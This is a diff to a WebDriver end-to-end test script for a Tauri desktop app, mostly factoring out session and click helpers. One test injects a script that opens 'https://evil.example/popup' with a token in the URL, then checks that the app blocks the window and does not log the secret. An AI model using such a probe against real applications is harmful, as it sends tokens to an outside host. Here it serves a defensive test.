@@ -80,6 +80,14 @@ def start_driver():
     return proc
 
 
+def open_session(app, args):
+    """A WebDriver session that launches `app` with `args` (30 s scripts, 10 s implicit waits)."""
+    caps = {"capabilities": {"alwaysMatch": {"tauri:options": {"application": app, "args": args}}}}
+    sid = call("POST", "/session", caps, attempts=1)["value"]["sessionId"]
+    call("POST", f"/session/{sid}/timeouts", {"script": 30000, "implicit": 10000})
+    return sid
+
+
 def close_session(sid):
     """Ends a WebDriver session (closing its app); failures are only reported."""
     if not sid:
@@ -100,6 +108,10 @@ def stop_process(proc):
 
 def element(sid, css):
     return list(call("POST", f"/session/{sid}/element", {"using": "css selector", "value": css})["value"].values())[0]
+
+
+def click(sid, css):
+    call("POST", f"/session/{sid}/element/{element(sid, css)}/click", {})
 
 
 def texts(sid, css):
@@ -154,7 +166,7 @@ def check_window_open_handler(sid):
              "b.onclick = () => { window.__probe = window.open('https://evil.example/popup?token=wo-secret-123'); };"
              "document.body.appendChild(b); return true;")
     call("POST", f"/session/{sid}/execute/sync", {"script": probe, "args": []})
-    call("POST", f"/session/{sid}/element/{element(sid, '#window-open-probe')}/click", {})
+    click(sid, '#window-open-probe')
     line = wait_for("the new-window refusal in the app log",
                     lambda: [ln for ln in log_text().splitlines() if "new window blocked" in ln], timeout=10)[-1]
     assert "https://evil.example" in line and "wo-secret-123" not in log_text() and "/popup" not in line, line
@@ -174,13 +186,13 @@ def sign_in_flow(sid, server, secret):
 
     call("POST", f"/session/{sid}/element/{element(sid, '[data-testid=signin-passphrase]')}/value",
          {"text": secret})
-    call("POST", f"/session/{sid}/element/{element(sid, 'button[type=submit]')}/click", {})
+    click(sid, 'button[type=submit]')
     state = wait_for('status bar "Connected"',
                      lambda: "Connected" in texts(sid, "[data-testid=status-connection]"), timeout=30)
     assert state
     print("ok   signed in from the desktop window (status bar: Connected)")
 
-    call("POST", f"/session/{sid}/element/{element(sid, '[data-testid=nav-people]')}/click", {})
+    click(sid, '[data-testid=nav-people]')
     rows = wait_for("the seeded contact in People",
                     lambda: [t for t in texts(sid, "[data-testid=contact-row]") if "Ada Lovelace" in t], timeout=20)
     count = texts(sid, "[data-testid=people-count]")
@@ -225,10 +237,8 @@ def main():
     proc = start_driver()
     sid = None
     try:
-        caps = {"capabilities": {"alwaysMatch": {"tauri:options": {
-            "application": app, "args": ["--data-dir", data_dir, "--server-mode", "--bind", "127.0.0.1", "--no-mdns", "--port", "0"]}}}}
-        sid = call("POST", "/session", caps, attempts=1)["value"]["sessionId"]
-        call("POST", f"/session/{sid}/timeouts", {"script": 30000, "implicit": 10000})
+        sid = open_session(app, ["--data-dir", data_dir, "--server-mode", "--bind", "127.0.0.1", "--no-mdns",
+                                 "--port", "0"])
 
         el = call("POST", f"/session/{sid}/element", {"using": "css selector", "value": "button[type=submit]"})["value"]
         text = call("GET", f"/session/{sid}/element/{list(el.values())[0]}/text")["value"]
